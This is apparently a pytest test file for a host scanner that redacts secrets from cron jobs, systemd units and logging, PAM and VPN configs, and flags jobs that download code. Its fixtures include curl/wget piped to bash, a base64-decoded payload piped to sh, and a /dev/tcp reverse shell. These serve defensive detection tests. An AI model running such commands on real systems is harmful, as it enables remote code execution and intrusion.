"""Secrets in settings and jobs of a host, through the very filters of its collection: none comes out.

Each of these texts holds the word RAHASIA where people put passwords and tokens.
"""

from __future__ import annotations

import pytest

from scanners.host.logs.area import LOGS
from scanners.host.watch.area import WATCH
from tests.scanners.host.filters import filtered
from tests.scanners.host.recorded import facts_of, written

SECRET = "RAHASIA"
HEADER = "==> /etc/x.conf <== read\n"

COMMANDS = r"""
curl -uu:RAHASIA https://h.example/x
curl -d pw=RAHASIA https://h.example
curl -H "X-Auth: RAHASIA" https://h.example
curl "https://u:a&RAHASIA@h.example/"
curl https://u:a&RAHASIA@h.example/
curl https://u:RAHASIA/a@h.example/
curl https://api.telegram.org/bot123:RAHASIA/sendMessage
curl https://h.example/?a=1&token=RAHASIA
curl https://h.example/#RAHASIA
curl -u 'a|RAHASIA' ftp://10.0.0.9
curl -d "$(echo "a | RAHASIA x")" https://h.example
curl -d "`echo "a | RAHASIA x"`" https://h.example
curl -d 'it'"'"'s | RAHASIA' https://h.example
bash -c "curl -H \"X: a; RAHASIA b\" https://h.example | bash"
sh -c 'curl -u "a | RAHASIA" https://h.example | sh'
mysql -p'a RAHASIA' app
mysql -pa\ RAHASIA app
mysql --password=RAHASIA app
plink -pw RAHASIA host
echo RAHASIA | sudo -S reboot
sqlplus sys/RAHASIA@db
snmpwalk -c RAHASIA 10.0.0.1
sudo -p RAHASIA backup
X="a RAHASIA" backup
X=(a RAHASIA b) backup
case x in RAHASIA) true ;; RAHASIA) false ;; esac
[[ a == b || RAHASIA ]] && true
mail -s x root%RAHASIA
backup $'a\'| RAHASIA'
cat <<EOT | RAHASIA
echo ${x:-a|RAHASIA}
ssh x 'echo a | RAHASIA'
smbclient //10.1.0.3/x%RAHASIA -U u%RAHASIA
lftp -e "open -u u,RAHASIA ftp://h.example; mirror"
python -c "import os; x='a|RAHASIA'"
backup > /RAHASIA
backup # pw | RAHASIA
backup 'never ended | RAHASIA
"NAME"="RAHASIA" b c d e f
""".strip().splitlines()


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize(
    "place",
    [
        "/var/spool/cron/crontabs/root:1 2 3 4 5 ",
        "/etc/cron.d/x:@daily root ",
        "/etc/cron.daily/x:wget x; ",
        "/etc/systemd/system/x.service:",
    ],
)
def test_no_secret_of_a_scheduled_command_comes_out(command: str, place: str) -> None:
    printed = filtered("watch", "watch_kept", f"{place}{command}\n", "")
    assert SECRET not in printed
    assert printed.endswith("!done\n")


def test_jobs_of_at_print_only_known_programs() -> None:
    text = "".join(
        f"/var/spool/at/a1:{line}\n"
        for line in (
            "Execution directory inaccessible",
            "}",
            "mysql -e 'x",
            "RAHASIA'",
            "RAHASIA",
            "curl x|sh",
        )
    )
    printed = filtered("watch", "watch_kept", text, "")
    assert SECRET not in printed
    assert "curl *** | sh" in printed


@pytest.mark.parametrize(
    ("command", "printed", "downloads", "plain"),
    [
        ("curl -s https://u:x@a.example/p | bash", "curl *** https://a.example | bash", True, False),
        ("wget -qO- http://a.example/p | sudo -E sh", "wget *** http://a.example | sudo *** sh", True, True),
        (
            'bash -c "$(curl -fsSL https://a.example/x)"',
            "bash -c ' $( curl *** https://a.example ) '",
            True,
            False,
        ),
        ("bash <(curl https://a.example/x)", "bash <( curl https://a.example )", True, False),
        ("eval $(wget -qO- https://a.example)", "eval $( wget *** https://a.example )", True, False),
        ("echo aGk= | base64 -d | sh", "echo *** | base64 -d | sh", True, False),
        (
            "wget https://a.example/x -O /tmp/x && /tmp/x",
            "wget https://a.example -o /tmp/x && /tmp/x",
            True,
            False,
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "bash *** >& /dev/tcp/203.0.113.9/443 >& ***",
            True,
            False,
        ),
        ("perl -e 'system(\"curl x | sh\")'", "perl *** curl *** | sh", True, False),
        (
            "curl -fsS https://a.example/c >/dev/null 2>&1",
            "curl *** https://a.example > /dev/null >& ***",
            False,
            False,
        ),
        ("curl http://localhost/x", "curl http://localhost", False, False),
        ("sftp -b batch budi@10.1.0.20", "sftp *** 10.1.0.20", False, False),
        ("rsync -a -e ssh /srv/ budi@10.1.0.20:/srv/", "rsync *** ssh /srv/ 10.1.0.20", False, False),
        ("rsync -a /srv/ cadangan.example::isi", "rsync *** /srv/ cadangan.example::", False, True),
        ("cd /srv && ftp -n 10.1.0.20", "cd /srv && ftp *** 10.1.0.20", False, True),
        ("lftp -u a,b ftp.example.go.id", "lftp ***", False, True),
        ("timeout 30 telnet h 25", "timeout *** telnet ***", False, True),
        ("curl -T /srv/a ftp://u:p@10.1.0.20:2121/x", "curl *** /srv/a ftp://10.1.0.20:2121", False, True),
    ],
)
def test_what_the_questions_need_still_comes_out(
    command: str, printed: str, downloads: bool, plain: bool
) -> None:
    text = filtered("watch", "watch_kept", f"/var/spool/cron/root:* * * * * {command}\n", "")
    assert text == f"cron root /var/spool/cron/root\t{printed}\n!done\n"
    facts = facts_of(written(watch_jobs=text, watch_packaged="", watch_timers="!done\n"), WATCH)
    assert bool(facts["host.jobs_downloading"]) is downloads
    assert bool(facts["host.transfer_plain"]) is plain


def test_digests_are_compared_on_the_host_and_stay_there() -> None:
    same, other = "0" * 32, "1" * 64
    text = f"{same}  /etc/cron.d/a\n{other}  /etc/cron.d/a\n{other}  /etc/cron.d/b\n{other}  /etc/cron.d/c\n"
    printed = filtered("watch", "watch_kept", text, f"/etc/cron.d/a {same}|/etc/cron.d/b {same}|")
    assert printed == "same /etc/cron.d/a\nchanged /etc/cron.d/b\nnone /etc/cron.d/c\n!done\n"


SETTINGS = [
    ("logs", "logs_rsyslog_kept", "*.* :ommysql:db,db,user,RAHASIA\n"),
    (
        "logs",
        "logs_rsyslog_kept",
        '$template F,"<%pri%>1 [RAHASIA@41058 tag=\\"x\\"] %msg%\\n"\n*.* @@h.example:514;F\n',
    ),
    ("logs", "logs_rsyslog_kept", 'template(name="F" type="string" string="[RAHASIA@41058] %msg%")\n'),
    ("logs", "logs_rsyslog_kept", 'action(type="omhttp" server="h" httpheaders=["X-Api-Key: RAHASIA"])\n'),
    (
        "logs",
        "logs_rsyslog_kept",
        'action(type="omelasticsearch" server="https://u:RAHASIA@h" pwd="a)RAHASIA")\n',
    ),
    (
        "logs",
        "logs_rsyslog_kept",
        '# was @@RAHASIA\n:msg, contains, " @@RAHASIA " stop\n^/bin/kirim;RAHASIA\n',
    ),
    (
        "logs",
        "logs_syslog_ng_kept",
        'destination d { http(url("https://u:RAHASIA@h") headers("X-Api-Key: RAHASIA")); };\n',
    ),
    (
        "logs",
        "logs_syslog_ng_kept",
        'destination d { sql(password("RAHASIA")); network("h" template("[RAHASIA@41058]")); };\n',
    ),
    (
        "system",
        "rotation_kept",
        "/var/log/a {\n postrotate\n mysqladmin --password=RAHASIA\n endscript\n mail RAHASIA\n}\n",
    ),
    (
        "logs",
        "logs_time_kept",
        "crypto pw RAHASIA\nserver 10.0.0.1 key RAHASIA # RAHASIA\n#FallbackNTP=a b # RAHASIA=\n",
    ),
    (
        "logs",
        "logs_apache_kept",
        'CustomLog "|/bin/kirim --token=RAHASIA" x\nErrorLog "|/bin/k RAHASIA"\nLogFormat "RAHASIA" x\n',
    ),
    ("logs", "logs_hosts_kept", "10.0.0.1 a # RAHASIA\n#RAHASIA\n"),
    ("machine", "core_kept", "* hard core 0 # RAHASIA\n# RAHASIA core 0\n"),
    ("machine", "usb_kept", "install usb-storage /bin/sh -c RAHASIA\nblacklist uas # RAHASIA\n"),
    ("accounts", "accounts_pam_kept", "auth required pam_mysql.so user=a passwd=RAHASIA nullok\n"),
    ("accounts", "accounts_pam_kept", "auth optional pam_exec.so /bin/k \\\n --token RAHASIA\nRAHASIA\n"),
    ("network", "vpn_openvpn_kept", "/etc/openvpn/a.conf:plugin /lib/x.so RAHASIA\n"),
    ("network", "vpn_openvpn_kept", "/etc/openvpn/a.conf:auth-user-pass-verify /k RAHASIA\n"),
]


@pytest.mark.parametrize(("area", "function", "text"), SETTINGS)
def test_no_secret_of_a_setting_comes_out(area: str, function: str, text: str) -> None:
    header = "" if function in ("core_kept", "usb_kept", "vpn_openvpn_kept") else HEADER
    printed = filtered(area, function, header + text)
    assert SECRET not in printed
    assert printed.startswith(header)


def _targets(function: str, text: str) -> list[tuple[object, ...]]:
    program = "rsyslogd" if function == "logs_rsyslog_kept" else "syslog-ng"
    section = "logs_rsyslog" if program == "rsyslogd" else "logs_syslog_ng"
    kept = filtered("logs", function, HEADER + text)
    report = written(
        "logs-routes",
        logs_processes=f"{program}\n",
        logs_connections="",
        logs_hosts="",
        denied=(),
        **{section: kept},
    )
    found = facts_of(report, LOGS)["host.log_targets"]
    assert isinstance(found, list)
    return [
        (one["host"], one["port"], one["protocol"], one["encrypted"])
        for one in found
        if isinstance(one, dict)
    ]


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("*.* @@203.0.113.7:6514\n", ("203.0.113.7", 6514, "tcp", False)),
        ("auth.* @@(o)kolektor:514;RSYSLOG_ForwardFormat\n", ("kolektor", 514, "tcp", False)),
        ("if $x == 'a' then { @log.example }\n", ("log.example", 514, "udp", False)),
        ("$ActionSendStreamDriverMode 1\n*.* @@[2001:db8::5]:601\n", ("2001:db8::5", 601, "tcp", True)),
        (
            '*.* action(type="omfwd"\n  target="a.example" # far\n  port="6514" '
            'protocol="tcp" StreamDriverMode="1")\n',
            ("a.example", 6514, "tcp", True),
        ),
        (
            'action(type="omrelp" target="10.1.1.8" port="20514" tls="on")\n',
            ("10.1.1.8", 20514, "relp", True),
        ),
    ],
)
def test_targets_of_rsyslog_still_come_out(text: str, target: tuple[object, ...]) -> None:
    assert _targets("logs_rsyslog_kept", text) == [target]


def test_targets_of_syslog_ng_still_come_out() -> None:
    text = (
        'source s { network(ip("0.0.0.0") port(514)); };\n'
        'destination d { network("log.example" port(6514) transport("tls") tls(key-file("/x"))); };\n'
        "log { source(s); destination(d); };\n"
    )
    assert _targets("logs_syslog_ng_kept", text) == [("log.example", 6514, "tls", True)]


STATUS = "Name:\trsyslogd\nState:\tS (sleeping)\nPPid:\t{parent}\nUid:\t{real}\t{effective}\t0\t0\n"


@pytest.mark.parametrize(
    ("parent", "real", "effective", "counts"),
    [(1, 0, 0, True), (1, 104, 104, True), (1, 1000, 1000, False), (1, 1000, 0, False), (2, 0, 0, False)],
)
def test_only_programs_of_the_system_are_taken_for_daemons(
    parent: int, real: int, effective: int, counts: bool
) -> None:
    text = STATUS.format(parent=parent, real=real, effective=effective)
    assert ("rsyslogd" in filtered("logs", "logs_of_system", text)) is counts
    assert ("name rsyslogd" in filtered("watch", "watch_names", text)) is counts


def test_a_giant_section_of_programs_is_read() -> None:
    """A text in which nearly every place looks like the end of an entry."""
    text = "/usr/sbin/sshd:/proc/1/exe\n" + ":/proc/1" * 32768 + ":/proc/7/exe\n/tmp/x:/proc/8/exe\n"
    assert facts_of(written(watch_programs=text), WATCH)["host.process_odd_files"] == ["/tmp/x (process 8)"]
    lines = "/usr/sbin/sshd:/proc/1/exe\n" + "\n" * 262144
    assert facts_of(written(watch_programs=lines), WATCH)["host.process_odd_files"] == []


def test_a_miner_counts_whoever_runs_it() -> None:
    facts = facts_of(written(watch_processes="name sshd\nother xmrig\nother fail2ban-server\n"), WATCH)
    assert facts["host.process_odd_names"] == ["xmrig"]
    assert facts["host.guard_tools"] == []
